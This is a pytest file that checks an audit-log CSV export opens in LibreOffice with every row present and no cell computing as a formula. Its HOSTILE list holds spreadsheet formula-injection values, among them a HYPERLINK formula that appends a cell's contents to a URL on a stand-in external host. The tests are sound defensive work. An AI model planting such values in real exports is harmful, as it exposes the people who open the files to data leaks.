"""A trail opened in a spreadsheet program: every row arrives, and no cell of it is a formula."""

import csv
import io
import shutil
import subprocess
from pathlib import Path
from xml.etree import ElementTree

import pytest

from agentapp.audit.exporting import COLUMNS, zipped_csv
from tests.agentapp.audit.test_exporting import ODD, asked, happened, unzipped

pytestmark = [pytest.mark.django_db, pytest.mark.spreadsheet, pytest.mark.apart]

# Commas, quotes, UTF-8, from the first line: what a person chooses when opening such a file.
AS_CSV = "CSV:44,34,76,1"
OFFICE, TABLE, TEXT = (f"{{urn:oasis:names:tc:opendocument:xmlns:{part}:1.0}}" for part in ("office", "table", "text"))
HOSTILE = [
    *ODD,
    '=HYPERLINK("http://a.example/?"&A1,"see")',
    "=1+1\n=2+2",
    '"=1+1"',
    "',=1+1",
    ";=1+1",
    "==1",
    "+-1",
    "@@1",
]


def opened(content: bytes, folder: Path) -> list[ElementTree.Element]:
    """The rows of a table as LibreOffice imports them."""
    file = folder / "events.csv"
    file.write_bytes(content)
    program = shutil.which("soffice")
    assert program is not None
    profile, whole = f"-env:UserInstallation={(folder / 'profile').as_uri()}", ["--infilter=" + AS_CSV]
    command = [program, "--headless", profile, "--convert-to", "fods", *whole, "--outdir", str(folder), str(file)]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    rows = ElementTree.parse(folder / "events.fods").iter(f"{TABLE}table-row")
    return [row for row in rows if row.find(f".//{TEXT}p") is not None]


def cells(row: ElementTree.Element) -> list[ElementTree.Element]:
    found = []
    for cell in row.iter(f"{TABLE}table-cell"):
        found += [cell] * int(cell.get(f"{TABLE}number-columns-repeated", "1"))
    return found[: len(COLUMNS)]


def written(cell: ElementTree.Element) -> str:
    """The text of a cell, without its blanks: a document stores those as marks."""
    return "".join("".join(cell.itertext()).split())


def test_a_cell_that_is_not_made_inert_is_a_formula(tmp_path: Path) -> None:
    """So that the other tests use a program that would compute."""
    [row] = opened(b"=1+1,plain\r\n", tmp_path)
    [sum_, plain, *_] = cells(row)
    assert (sum_.get(f"{TABLE}formula"), sum_.get(f"{OFFICE}value")) == ("of:=1+1", "2")
    assert plain.get(f"{TABLE}formula") is None


def test_every_event_arrives_and_no_cell_computes(tmp_path: Path) -> None:
    content, manifest = unzipped(zipped_csv(asked(happened(*HOSTILE))))
    head, *rows = [cells(row) for row in opened(content, tmp_path)]
    assert [written(cell) for cell in head] == list(COLUMNS)
    assert len(rows) == manifest["count"] == len(HOSTILE)
    assert not [cell.attrib for row in rows for cell in row if cell.get(f"{TABLE}formula") is not None]

    names = [COLUMNS.index(name) for name in ("actor", "type", "tool", "data", "hash", "id")]
    sent = [[row[place] for place in names] for row in csv.reader(io.StringIO(content.decode(), newline=""))]
    found = [[written(row[place]) for place in names] for row in rows]
    assert found == [["".join(text.split()) for text in row] for row in sent[1:]]
